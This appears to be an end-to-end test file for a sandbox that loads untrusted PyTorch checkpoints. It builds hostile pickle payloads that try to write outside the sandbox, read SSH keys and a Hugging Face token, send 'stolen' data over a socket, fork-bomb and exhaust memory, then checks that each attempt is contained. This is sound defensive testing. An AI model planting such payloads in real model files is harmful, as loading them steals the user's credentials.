import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  chmodSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join, resolve } from 'node:path';
import { Writable } from 'node:stream';
import { after, before, describe, it } from 'node:test';
import type { CliIo } from '../../src/cli/io.js';
import { main } from '../../src/cli/run.js';
import type { SandboxReport } from '../../src/sandbox/run.js';
import type { LoadValidation } from '../../src/sandbox/load.js';

// `torchward sandbox` end to end with real parts: real bubblewrap and strace, real torch 1.13
// writing the checkpoints (hostile ones run their payload at torch.load), a real TCP server on
// loopback, and torch (1.13 and 2.13 with the safetensors library) reading the output back.

const PYTHON = '/usr/bin/python3';
const ORACLE = join('test', 'sandbox', 'sandbox_oracle.py');

// Test files live under build/, not /tmp: /tmp is hidden inside the sandbox anyway, and a marker
// or a planted secret there would prove nothing about the other protections.
const root = mkdtempSync(join(resolve('build'), 'sandbox-test-'));
// A root caller's command runs as uid 65534, which must be able to reach the test's files.
chmodSync(root, 0o755);
// The escape marker must lie where the sandbox shows the host read-only. A clone under /tmp, /root
// or /home is hidden inside the sandbox (the write would land in the sandbox's own empty /tmp), so a
// root caller puts the marker's folder under /opt, which the sandbox shows read-only.
const markerDir = ((): string => {
  if (process.getuid?.() !== 0) return root;
  try {
    const dir = mkdtempSync('/opt/torchward-sandbox-test-');
    chmodSync(dir, 0o755);
    return dir;
  } catch {
    return root;
  }
})();
const home = join(root, 'home');
const work = join(root, 'work');
const SECRET = `FAKE-SECRET-${process.pid}-${Date.now()}`;
const HF_TOKEN = `hf_${'Q'.repeat(17)}${'z'.repeat(17)}`;

after(() => {
  rmSync(root, { recursive: true, force: true });
  if (markerDir !== root) rmSync(markerDir, { recursive: true, force: true });
});

interface Run {
  code: number;
  out: string;
  err: string;
}

async function run(args: string[], env: Record<string, string> = {}): Promise<Run> {
  let out = '';
  let err = '';
  const sink = (append: (s: string) => void): Writable =>
    new Writable({
      write(chunk: Buffer, _enc, done) {
        append(chunk.toString());
        done();
      },
    });
  const io: CliIo = {
    stdout: sink((s) => (out += s)),
    stderr: sink((s) => (err += s)),
    env: {
      HOME: home,
      PATH: '/usr/bin:/bin',
      HF_TOKEN,
      AWS_SECRET_ACCESS_KEY: SECRET,
      LANG: 'C.UTF-8',
      ...env,
    },
    cwd: work,
  };
  const code = await main(args, io);
  return { code, out, err };
}

type LoadJson = SandboxReport & { load: LoadValidation };

function json(r: Run): SandboxReport {
  return JSON.parse(r.out) as SandboxReport;
}

function loadJson(r: Run): LoadJson {
  return JSON.parse(r.out) as LoadJson;
}

function oracle(...args: string[]): string {
  return execFileSync(PYTHON, [ORACLE, ...args], { encoding: 'utf8', timeout: 120_000 });
}

/** A checkpoint whose unpickling runs `source` (after printing PAYLOAD RAN, so tests see it ran). */
function hostile(name: string, source: string): string {
  const file = join(work, `${name}.pt`);
  oracle(
    'make-hostile',
    file,
    `import sys\nprint('PAYLOAD RAN', file=sys.stderr, flush=True)\n${source}`,
  );
  return file;
}

/** Processes still alive whose command line holds `token` (none should outlive a run). */
function survivors(token: string): string[] {
  const found: string[] = [];
  for (const pid of readdirSync('/proc')) {
    if (!/^\d+$/.test(pid) || Number(pid) === process.pid) continue;
    try {
      const cmdline = readFileSync(`/proc/${pid}/cmdline`, 'latin1');
      if (cmdline.includes(token)) found.push(pid);
    } catch {
      // The process ended while we looked.
    }
  }
  return found;
}

before(() => {
  mkdirSync(join(home, '.ssh'), { recursive: true });
  mkdirSync(join(home, '.cache', 'huggingface'), { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_ed25519'), `${SECRET}\n`);
  writeFileSync(join(home, '.cache', 'huggingface', 'token'), `${HF_TOKEN}\n`);
  mkdirSync(work, { recursive: true });
});

describe('torchward sandbox: hostile pickles through sandbox load', () => {
  it('contains a payload that writes a marker outside the sandbox, and reports the attempt', async () => {
    const marker = join(markerDir, 'MARKER');
    const file = hostile('write-marker', `open(${JSON.stringify(marker)}, 'w').write('escaped')`);
    const r = await run([
      'sandbox',
      'load',
      '--trace',
      '--format',
      'json',
      file,
      '-o',
      join(work, 'w.safetensors'),
    ]);
    assert.equal(r.code, 1, r.err);
    assert.match(r.err, /PAYLOAD RAN/);
    assert.equal(existsSync(marker), false);
    assert.equal(existsSync(join(work, 'w.safetensors')), false);
    const report = loadJson(r);
    assert.equal(report.load.ok, false);
    assert.ok(
      report.trace?.writesOutside.some((w) => w.target === marker && w.result === 'EROFS'),
      JSON.stringify(report.trace?.writesOutside),
    );
    assert.match(r.err, /Read-only file system/);
    // No staging directory is left next to the output.
    assert.deepEqual(
      readdirSync(work).filter((n) => n.startsWith('.torchward-load-')),
      [],
    );
  });

  it("contains a payload that reads the caller's planted secrets, and reports the attempt", async () => {
    const target = join(home, '.ssh', 'id_ed25519');
    const file = hostile(
      'read-secret',
      [
        'import os',
        'for p in [' +
          `${JSON.stringify(target)}, os.path.expanduser('~/.ssh/id_ed25519'),` +
          `${JSON.stringify(join(home, '.cache', 'huggingface', 'token'))}]:`,
        '    try: print("READ", open(p).read())',
        '    except Exception as e: print("DENIED", p, e)',
        'print("ENV", sorted(os.environ.items()))',
      ].join('\n'),
    );
    const r = await run([
      'sandbox',
      'load',
      '--trace',
      '--format',
      'json',
      file,
      '-o',
      join(work, 'r.safetensors'),
    ]);
    assert.equal(r.code, 0, r.err);
    assert.match(r.err, /PAYLOAD RAN/);
    assert.ok(!r.err.includes(SECRET) && !r.out.includes(SECRET), 'the secret leaked');
    assert.ok(!r.err.includes(HF_TOKEN), 'the token leaked');
    assert.doesNotMatch(r.err, /READ/);
    assert.match(r.err, /ENV \[\('HOME', '\/tmp\/home'\), \('LANG', 'C.UTF-8'\), \('PATH', /);
    const report = loadJson(r);
    // The payload ran and the weights still converted: containment, not a refusal.
    assert.equal(report.load.ok, true);
    const reads = report.trace?.readsOutside ?? [];
    assert.ok(
      reads.some((x) => x.target === target && x.result === 'ENOENT'),
      JSON.stringify(reads),
    );
    assert.ok(
      reads.some((x) => x.target === '/tmp/home/.ssh/id_ed25519'),
      JSON.stringify(reads),
    );
  });

  describe('network', () => {
    let server: Server;
    let port = 0;
    let connections = 0;
    before(async () => {
      server = createServer((socket) => {
        connections += 1;
        socket.end();
      });
      await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
      port = (server.address() as { port: number }).port;
    });
    after(() => {
      server.close();
    });

    it('gives a load no network: the connect to a loopback server never happens', async () => {
      const file = hostile(
        'connect',
        `import socket\nsocket.create_connection(('127.0.0.1', ${port}), timeout=5).send(b'stolen')`,
      );
      const r = await run([
        'sandbox',
        'load',
        '--trace',
        '--format',
        'json',
        file,
        '-o',
        join(work, 'n.safetensors'),
      ]);
      assert.equal(r.code, 1);
      assert.match(r.err, /PAYLOAD RAN/);
      assert.match(r.err, /PermissionError/);
      assert.equal(connections, 0);
      const report = loadJson(r);
      assert.ok(
        report.trace?.network.some(
          (n) => n.syscall === 'socket' && n.target.includes('AF_INET') && n.result === 'EPERM',
        ),
        JSON.stringify(report.trace?.network),
      );
    });

    it('with --net loopback, the sandbox has its own loopback: the host server is unreachable', async () => {
      const r = await run([
        'sandbox',
        '--net',
        'loopback',
        '--trace',
        '--format',
        'json',
        '--',
        PYTHON,
        '-c',
        `import socket\nsocket.create_connection(('127.0.0.1', ${port}))`,
      ]);
      assert.equal(r.code, 1);
      assert.match(r.err, /ConnectionRefusedError/);
      assert.equal(connections, 0);
      const report = json(r);
      assert.ok(
        report.trace?.network.some(
          (n) =>
            n.syscall === 'connect' &&
            n.target === `127.0.0.1:${port}` &&
            n.result === 'ECONNREFUSED',
        ),
        JSON.stringify(report.trace?.network),
      );
    });
  });

  it('contains a fork bomb with the process limit, and kills it at the timeout', async () => {
    const token = `forkbomb-${process.pid}`;
    const file = hostile(
      'fork-bomb',
      `import os\n# ${token}\nwhile True:\n    try: os.fork()\n    except OSError: pass`,
    );
    const started = Date.now();
    const r = await run([
      'sandbox',
      'load',
      '--trace',
      '--processes',
      '32',
      '--timeout',
      '15',
      '--format',
      'json',
      file,
      '-o',
      join(work, 'f.safetensors'),
    ]);
    assert.equal(r.code, 124, r.err);
    assert.match(r.err, /PAYLOAD RAN/);
    assert.ok(Date.now() - started < 45_000);
    const report = loadJson(r);
    assert.equal(report.status, 'timeout');
    const limits = report.limitsHit.map((h) => h.limit);
    assert.ok(limits.includes('timeout'));
    assert.ok(limits.includes('processes'), JSON.stringify(report.limitsHit));
    await new Promise((ok) => setTimeout(ok, 500));
    assert.deepEqual(survivors(file), []);
    assert.deepEqual(survivors(token), []);
  });

  it('contains a 10 GB allocation with the memory limit', async () => {
    const file = hostile(
      'allocate',
      "b = bytearray(10 * 1024 ** 3)\nb[::4096] = b'x' * len(b[::4096])",
    );
    const r = await run([
      'sandbox',
      'load',
      '--trace',
      '--memory',
      '2G',
      '--format',
      'json',
      file,
      '-o',
      join(work, 'm.safetensors'),
    ]);
    assert.equal(r.code, 1, r.err);
    assert.match(r.err, /PAYLOAD RAN/);
    assert.match(r.err, /MemoryError/);
    const report = loadJson(r);
    assert.ok(
      report.limitsHit.some((h) => h.limit === 'memory'),
      JSON.stringify(report.limitsHit),
    );
  });

  it('kills a payload that sleeps forever at the timeout, with every process', async () => {
    const file = hostile('sleep', 'import os, time\nos.fork()\ntime.sleep(10 ** 9)');
    const started = Date.now();
    const r = await run([
      'sandbox',
      'load',
      // Long enough for torch to import on a busy machine; the payload then sleeps past it.
      '--timeout',
      '10',
      file,
      '-o',
      join(work, 's.safetensors'),
    ]);
    const elapsed = Date.now() - started;
    assert.equal(r.code, 124, r.err);
    assert.match(r.err, /PAYLOAD RAN/);
    assert.ok(elapsed >= 10_000 && elapsed < 30_000, String(elapsed));
    assert.match(r.out, /timed out, exit status 124/);
    assert.match(r.out, /limit hit: killed after the 10 s timeout/);
    await new Promise((ok) => setTimeout(ok, 500));
    assert.deepEqual(survivors(file), []);
  });
});

describe('torchward sandbox load: a benign checkpoint converts bit-exactly', () => {
  it('writes every tensor of a checkpoint with an argparse Namespace and numpy scalars', async () => {
    const file = join(work, 'benign.pt');
    oracle('make-benign', file);
    // Static conversion refuses it (argparse.Namespace and numpy scalars are outside the
    // weights-only allowlist): this is the case sandbox load is for.
    const refused = await run(['convert', file, '-o', join(work, 'static.safetensors')]);
    assert.equal(refused.code, 1);
    const out = join(work, 'benign.safetensors');
    const r = await run(['sandbox', 'load', file, '-o', out]);
    assert.equal(r.code, 0, r.err);
    assert.match(
      r.out,
      /load: wrote .*benign\.safetensors: 7 tensor\(s\), \d+ bytes, validated as safe safetensors/,
    );
    const checked = JSON.parse(oracle('compare', file, out)) as {
      ok: boolean;
      errors: string[];
      tensors: number;
      metadata: Record<string, string>;
    };
    assert.deepEqual(checked.errors, []);
    assert.equal(checked.tensors, 7);
    assert.equal(checked.metadata['args.lr'], '0.001');
    assert.equal(checked.metadata.epoch, '12');
    assert.equal(checked.metadata.best_acc, '0.875');
    // The second oracle: torch 2.13 and the safetensors library read the same tensors.
    const torch2 = process.env.TORCHWARD_TORCH2_PYTHON;
    if (torch2 !== undefined && torch2 !== '') {
      const second = JSON.parse(
        execFileSync(torch2, [ORACLE, 'compare', file, out], {
          encoding: 'utf8',
          timeout: 120_000,
        }),
      ) as { errors: string[]; safetensorsLibrary: boolean | null };
      assert.deepEqual(second.errors, []);
      assert.equal(second.safetensorsLibrary, true);
    }
    // An existing output is kept unless --force.
    assert.equal((await run(['sandbox', 'load', file, '-o', out])).code, 125);
    assert.equal((await run(['sandbox', 'load', '--force', file, '-o', out])).code, 0);
  });
});

describe('torchward sandbox: isolation and limits', () => {
  it('propagates the exit status and reports in JSON', async () => {
    const r = await run(['sandbox', '--format', 'json', '--', '/bin/sh', '-c', 'echo out; exit 7']);
    assert.equal(r.code, 7);
    const report = json(r);
    assert.equal(report.version, 1);
    assert.equal(report.status, 'exited');
    assert.equal(report.exitCode, 7);
    assert.match(r.err, /^out$/m);
  });

  it('scrubs the environment, hides the home and gives new namespaces', async () => {
    const r = await run(
      [
        'sandbox',
        '--env',
        'KEEP',
        '--env',
        'SET=1',
        '--',
        '/bin/sh',
        '-c',
        'env | sort; ls -A "$HOME"; ls -A ' +
          home +
          ' 2>&1; id -u; hostname; ls /proc | grep -c "^[0-9]"',
      ],
      { KEEP: 'kept' },
    );
    assert.equal(r.code, 0, r.err);
    assert.doesNotMatch(r.out, /HF_TOKEN|AWS_SECRET|FAKE-SECRET/);
    assert.match(r.out, /^KEEP=kept$/m);
    assert.match(r.out, /^SET=1$/m);
    assert.match(r.out, /^HOME=\/tmp\/home$/m);
    assert.doesNotMatch(r.out, /\.ssh/);
    assert.match(r.out, /^torchward-sandbox$/m);
    if (process.getuid?.() === 0) assert.match(r.out, /^65534$/m);
  });

  it('makes the denylisted syscalls fail inside (seccomp), and lets ordinary ones work', async () => {
    const script = [
      'import ctypes, json, os',
      'libc = ctypes.CDLL(None, use_errno=True)',
      'def call(nr, *a):',
      '    r = libc.syscall(nr, *a)',
      '    return r, ctypes.get_errno()',
      // x86_64 numbers; the aarch64 table is checked against the kernel headers in seccomp.test.
      'out = {"ptrace": call(101, 0, 0, 0, 0), "mount": call(165, 0, 0, 0, 0, 0),',
      '       "unshare": call(272, 0x10000000), "keyctl": call(250, 0, 0, 0, 0),',
      '       "bpf": call(321, 0, 0, 0), "perf_event_open": call(298, 0, 0, 0, 0, 0),',
      '       "init_module": call(175, 0, 0, 0), "getpid": call(39)}',
      'print(json.dumps(out))',
    ].join('\n');
    if (process.arch !== 'x64') return;
    const r = await run(['sandbox', '--trace', '--format', 'json', '--', PYTHON, '-c', script]);
    assert.equal(r.code, 0, r.err);
    const line = r.err.split('\n').find((l) => l.startsWith('{"ptrace"')) ?? '{}';
    const seen = JSON.parse(line) as Record<string, [number, number]>;
    for (const name of [
      'ptrace',
      'mount',
      'unshare',
      'keyctl',
      'bpf',
      'perf_event_open',
      'init_module',
    ]) {
      assert.deepEqual(seen[name], [-1, 1], `${name} should fail with EPERM`);
    }
    assert.ok((seen.getpid?.[0] ?? 0) > 0);
    const denied = json(r).trace?.deniedSyscalls.map((d) => d.syscall) ?? [];
    for (const name of ['ptrace', 'mount', 'unshare', 'keyctl', 'bpf'])
      assert.ok(denied.includes(name), name);
  });

  it('ends a CPU-bound command at the CPU limit (SIGXCPU)', async () => {
    const r = await run(['sandbox', '--cpu-time', '1', '--', PYTHON, '-c', 'while True: pass']);
    assert.equal(r.code, 152);
    assert.match(r.err, /killed by SIGXCPU/);
    assert.match(r.err, /limit hit: a process used its 1 s of CPU time/);
  });

  it('ends a writer at the file size limit (SIGXFSZ), and the output is the one writable place', async () => {
    const output = join(work, 'out-fsize');
    const r = await run([
      'sandbox',
      '--output',
      output,
      '--file-size',
      '1M',
      '--',
      '/bin/sh',
      '-c',
      `head -c 4000000 /dev/zero > ${output}/big`,
    ]);
    assert.equal(r.code, 153, r.err);
    assert.match(r.err, /file size limit/);
    assert.ok(readFileSync(join(output, 'big')).length <= 1024 * 1024);
  });
});

describe('torchward sandbox: as an ordinary user (unprivileged user namespaces)', () => {
  it('runs the command in a user namespace with no capabilities and the limits', (t) => {
    if (process.getuid?.() !== 0) {
      t.skip('needs root to start torchward as another user');
      return;
    }
    const cli = resolve('dist', 'cli', 'main.js');
    const r = spawnSync(
      '/usr/bin/setpriv',
      [
        '--reuid=65534',
        '--regid=65534',
        '--clear-groups',
        '--',
        process.execPath,
        cli,
        'sandbox',
        '--processes',
        '77',
        '--format',
        'json',
        '--',
        '/bin/sh',
        '-c',
        'grep -E "^(CapEff|Seccomp):" /proc/self/status; grep "Max processes" /proc/self/limits; cat /proc/self/uid_map',
      ],
      {
        encoding: 'utf8',
        cwd: '/',
        env: { PATH: '/usr/bin:/bin', HOME: '/nonexistent' },
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    assert.equal(r.status, 0, r.stderr);
    const report = JSON.parse(r.stdout) as SandboxReport;
    // The command's output (on stderr with --format json): no capabilities, the seccomp filter,
    // the process limit, and a user namespace mapping one uid.
    assert.match(r.stderr, /^CapEff:\s+0000000000000000$/m);
    assert.match(r.stderr, /^Seccomp:\s+2$/m);
    assert.match(r.stderr, /^Max processes\s+77\s+77\s/m);
    assert.match(r.stderr, /^\s*65534\s+\d+\s+1$/m);
    assert.equal(report.exitCode, 0);
    assert.equal(report.sandbox.uid, null);
  });
});

describe('torchward sandbox: refusals (nothing runs)', () => {
  const marker = (): string => join(root, `ran-${Math.random().toString(36).slice(2)}`);

  it('needs a command', async () => {
    assert.equal((await run(['sandbox'])).code, 2);
    assert.equal((await run(['sandbox', '--'])).code, 2);
    assert.equal((await run(['sandbox', 'echo', 'hi'])).code, 2);
    const r = await run(['sandbox', '--', 'no-such-command-torchward']);
    assert.equal(r.code, 127);
    assert.match(r.err, /not on the sandbox's PATH/);
  });

  it('refuses when bubblewrap is missing, fails, or does not sandbox', async () => {
    const fake = join(root, 'fake-bwrap');
    // A "bwrap" that runs the command in place: the namespace probe must catch it.
    writeFileSync(fake, '#!/bin/sh\nwhile [ "$1" != "--" ]; do shift; done; shift; exec "$@"\n', {
      mode: 0o755,
    });
    // A bubblewrap that passes the probe but fails to build the real sandbox.
    const flaky = join(root, 'flaky-bwrap');
    writeFileSync(
      flaky,
      '#!/bin/sh\ncase "$*" in *--seccomp*) echo "bwrap: simulated failure" >&2; exit 1;; esac\nexec /usr/bin/bwrap "$@"\n',
      { mode: 0o755 },
    );
    const m0 = marker();
    const r0 = await run(['sandbox', '--', '/usr/bin/touch', m0], { TORCHWARD_BWRAP: flaky });
    assert.equal(r0.code, 125, r0.err);
    assert.match(r0.err, /simulated failure[\s\S]*could not build the sandbox/);
    assert.equal(existsSync(m0), false);
    for (const bwrap of [join(root, 'missing-bwrap'), '/bin/false', fake]) {
      const m = marker();
      const r = await run(['sandbox', '--', '/usr/bin/touch', m], { TORCHWARD_BWRAP: bwrap });
      assert.equal(r.code, 125, `${bwrap}: ${r.err}`);
      assert.match(r.err, /never runs the command without the sandbox/);
      assert.equal(existsSync(m), false);
    }
  });

  it('refuses when the machine allows no new namespaces', () => {
    // Run torchward itself inside a bubblewrap sandbox that forbids user namespaces and has no
    // capabilities: the inner bubblewrap cannot build its sandbox, and torchward must refuse.
    const m = marker();
    const cli = resolve('dist', 'cli', 'main.js');
    let status = 0;
    let stderr = '';
    try {
      execFileSync(
        '/usr/bin/bwrap',
        [
          '--ro-bind',
          '/',
          '/',
          '--bind',
          root,
          root,
          '--dev',
          '/dev',
          '--proc',
          '/proc',
          '--unshare-user',
          '--disable-userns',
          '--unshare-pid',
          '--cap-drop',
          'ALL',
          '--',
          process.execPath,
          cli,
          'sandbox',
          '--',
          '/usr/bin/touch',
          m,
        ],
        {
          encoding: 'utf8',
          stdio: ['ignore', 'pipe', 'pipe'],
          env: { PATH: '/usr/bin:/bin', HOME: home },
        },
      );
    } catch (error) {
      status = (error as { status: number }).status;
      stderr = (error as { stderr: string }).stderr;
    }
    assert.equal(status, 125, stderr);
    assert.match(stderr, /could not create the namespaces/);
    assert.equal(existsSync(m), false);
  });

  it('refuses bad inputs and outputs', async () => {
    const input = join(work, 'in');
    mkdirSync(join(input, 'sub'), { recursive: true });
    writeFileSync(join(input, 'sub', 'weights.bin'), 'x');
    const cases: { args: string[]; why: RegExp }[] = [
      { args: ['--input', input, '--output', join(input, 'sub', 'out')], why: /inside the input/ },
      { args: ['--input', join(input, 'sub'), '--output', input], why: /holds the input/ },
      { args: ['--input', join(work, 'missing')], why: /no such file/i },
      { args: ['--input', '/dev/null'], why: /is a character device/ },
      { args: ['--input', home], why: /home directory/ },
      { args: ['--output', home], why: /home directory/ },
      { args: ['--output', '/'], why: /system directory/ },
    ];
    for (const c of cases) {
      const m = marker();
      const r = await run(['sandbox', ...c.args, '--', '/usr/bin/touch', m]);
      assert.equal(r.code, 125, `${c.args.join(' ')}: ${r.err}`);
      assert.match(r.err, c.why);
      assert.match(r.err, /nothing was run/);
      assert.equal(existsSync(m), false);
    }
  });

  it('refuses inputs that are sockets or hold symlinks out of themselves', async () => {
    const dir = join(work, 'links');
    mkdirSync(dir, { recursive: true });
    symlinkSync(join(home, '.ssh', 'id_ed25519'), join(dir, 'key'));
    let r = await run(['sandbox', '--input', dir, '--', '/bin/true']);
    assert.equal(r.code, 125);
    assert.match(r.err, /symlink .*key points out of the input/);
    rmSync(join(dir, 'key'));
    symlinkSync('../../home/.ssh/id_ed25519', join(dir, 'relative'));
    r = await run(['sandbox', '--input', dir, '--', '/bin/true']);
    assert.equal(r.code, 125);
    rmSync(join(dir, 'relative'));
    symlinkSync('inside.txt', join(dir, 'ok-link'));
    writeFileSync(join(dir, 'inside.txt'), 'fine');
    r = await run(['sandbox', '--input', dir, '--', '/bin/cat', join(dir, 'ok-link')]);
    assert.equal(r.code, 0, r.err);
    assert.equal(r.out, 'fine');

    const sockDir = join(work, 'sock');
    mkdirSync(sockDir, { recursive: true });
    const socketPath = join(sockDir, 'agent.sock');
    const server = createServer();
    await new Promise<void>((ok) => server.listen(socketPath, ok));
    try {
      r = await run(['sandbox', '--input', socketPath, '--', '/bin/true']);
      assert.equal(r.code, 125);
      assert.match(r.err, /is a socket/);
      r = await run(['sandbox', '--input', sockDir, '--', '/bin/true']);
      assert.equal(r.code, 125);
      assert.match(r.err, /agent\.sock is a socket/);
    } finally {
      server.close();
    }
  });

  it('refuses inputs holding secrets unless --allow-sensitive', async () => {
    const data = join(work, 'data');
    mkdirSync(data, { recursive: true });
    const key = [
      '-----BEGIN OPENSSH',
      ' PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH',
      ' PRIVATE KEY-----\n',
    ].join('');
    writeFileSync(join(data, 'notes.txt'), `some text\n${key}`);
    let r = await run(['sandbox', '--input', data, '--', '/bin/true']);
    assert.equal(r.code, 125);
    assert.match(r.err, /notes\.txt \(byte 10\): private key \(PEM\)/);
    r = await run(['sandbox', '--format', 'json', '--input', data, '--', '/bin/true']);
    assert.equal(r.code, 125);
    assert.equal(
      (JSON.parse(r.out) as { refused: { code: string } }).refused.code,
      'SENSITIVE_INPUT',
    );
    r = await run(['sandbox', '--allow-sensitive', '--input', data, '--', '/bin/true']);
    assert.equal(r.code, 0, r.err);
    assert.match(r.err, /sensitive-data check: skipped/);
    writeFileSync(join(data, 'notes.txt'), `token = ${HF_TOKEN}\n`);
    r = await run(['sandbox', '--input', data, '--', '/bin/true']);
    assert.equal(r.code, 125);
    assert.match(r.err, /Hugging Face token/);
    assert.ok(!r.err.includes(HF_TOKEN), 'the refusal must not print the secret');
  });
});
